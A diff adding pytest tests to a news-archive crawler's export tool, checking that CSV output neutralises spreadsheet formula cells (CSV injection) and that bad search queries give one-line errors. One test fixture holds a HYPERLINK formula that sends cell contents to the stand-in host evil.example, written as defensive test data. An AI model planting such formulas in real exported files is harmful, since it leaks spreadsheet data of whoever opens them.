@@ -252,6 +252,68 @@ def test_csv_opens_in_excel(archive, tmp_path) -> None:
     assert out.read_bytes().startswith(b"id,site,")
 
 
+# Cells a spreadsheet would read as a formula (OWASP "CSV Injection"), by article id.
+FORMULAS = {
+    1: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    2: "+84 912 345 678",
+    3: "-1+1",
+    4: "@SUM(A1:A2)",
+    5: "\tTab ở đầu",
+    6: "\rVề đầu dòng",
+    # Harmless: the sign is not the first character.
+    7: "Tổng = 3 + 4",
+}
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory) -> Path:
+    """A small archive whose titles begin with formula characters; article 1's tags too."""
+    db = tmp_path_factory.mktemp("formulas") / "archive.db"
+    make_archive(db, 8)
+    with sqlite3.connect(db) as conn:
+        for i, title in FORMULAS.items():
+            conn.execute("UPDATE articles SET title = ? WHERE id = ?", (title, i))
+        conn.execute("UPDATE articles SET tags = ? WHERE id = 1", ('["-thẻ", "thẻ 2"]',))
+    return db
+
+
+def test_neutralize_prefixes_a_quote_to_formula_cells() -> None:
+    from pipelines.archive.dump.cells import neutralize
+
+    for cell in FORMULAS.values():
+        expected = cell if cell[0] == "T" else "'" + cell
+        assert neutralize(cell) == expected
+    for harmless in ("", "'=already text", "Bài viết = 2", " =1+1", "12", "'"):
+        assert neutralize(harmless) == harmless
+
+
+def test_csv_neutralizes_formula_cells_unless_raw(formulas, tmp_path) -> None:
+    out = tmp_path / "articles.csv"
+    tinhuy("dump", "--format", "csv", "--out", str(out), "--db", str(formulas))
+    rows = {int(r["id"]): r for r in dumped(out, "csv")}
+    for i, title in FORMULAS.items():
+        assert rows[i]["title"] == (title if i == 7 else "'" + title), i
+    assert rows[1]["tags"] == "'-thẻ | thẻ 2"
+    assert rows[8]["title"] == "Bài viết số 8: Hội nghị Ban Chấp hành Đảng bộ tỉnh"
+    assert rows[8]["lead"] == "Chiều 9/1, hội nghị lần thứ 8 đã diễn ra."
+
+    tinhuy("dump", "--format", "csv", "--out", str(out), "--db", str(formulas), "--raw-cells")
+    rows = {int(r["id"]): r for r in dumped(out, "csv")}
+    for i, title in FORMULAS.items():
+        assert rows[i]["title"] == title, i
+    assert rows[1]["tags"] == "-thẻ | thẻ 2"
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_jsonl_and_parquet_keep_formula_text_exactly(formulas, tmp_path, fmt) -> None:
+    out = tmp_path / f"articles.{fmt}"
+    tinhuy("dump", "--format", fmt, "--out", str(out), "--db", str(formulas))
+    rows = {int(r["id"]): r for r in dumped(out, fmt)}
+    for i, title in FORMULAS.items():
+        assert rows[i]["title"] == title, i
+    assert rows[1]["tags"] == ["-thẻ", "thẻ 2"]
+
+
 def test_parquet_is_typed_and_streamed_in_row_groups(archive, tmp_path) -> None:
     out = tmp_path / "articles.parquet"
     tinhuy("dump", "--format", "parquet", "--out", str(out), "--db", str(archive))
@@ -393,6 +455,31 @@ def test_bad_input_is_refused_and_leaves_no_file(crawled, tmp_path) -> None:
     file.write_text("")
     assert "no such directory" in refused(tmp_path, *db, out=file / "x.jsonl")
     assert "is a directory" in refused(tmp_path, *db, out=tmp_path)
+
+
+@pytest.mark.parametrize("query", ['"', '""', "   "])
+def test_a_query_without_a_word_is_one_usage_line(crawled, tmp_path, query) -> None:
+    stderr = refused(tmp_path, "--query", query, "--db", str(crawled.db))
+    assert stderr.startswith("tinhuy: ") and stderr.count("\n") == 1, stderr
+    assert "Traceback" not in stderr
+
+
+def test_a_query_the_search_engine_rejects_is_one_usage_line(
+    crawled, tmp_path, monkeypatch, capsys
+) -> None:
+    from crawler.cli import main
+    from pipelines.archive import search
+
+    # What FTS5 refuses ("unterminated string"), as if the query builder let it through.
+    monkeypatch.setattr(search, "fts5_query", lambda found: '"')
+    out = tmp_path / "out.csv"
+    code = main(["dump", "--format", "csv", "--out", str(out), "--db", str(crawled.db),
+                 "--query", "truong chinh tri"])  # fmt: skip
+    stderr = capsys.readouterr().err
+    assert code == 2
+    assert stderr.startswith("tinhuy: --query 'truong chinh tri': ") and stderr.count("\n") == 1
+    assert "unterminated string" in stderr
+    assert list(tmp_path.iterdir()) == [], "no file, no temporary file, no manifest"
 
 
 def test_fresh_with_a_failing_crawl_dumps_nothing(crawled, tmp_path) -> None:
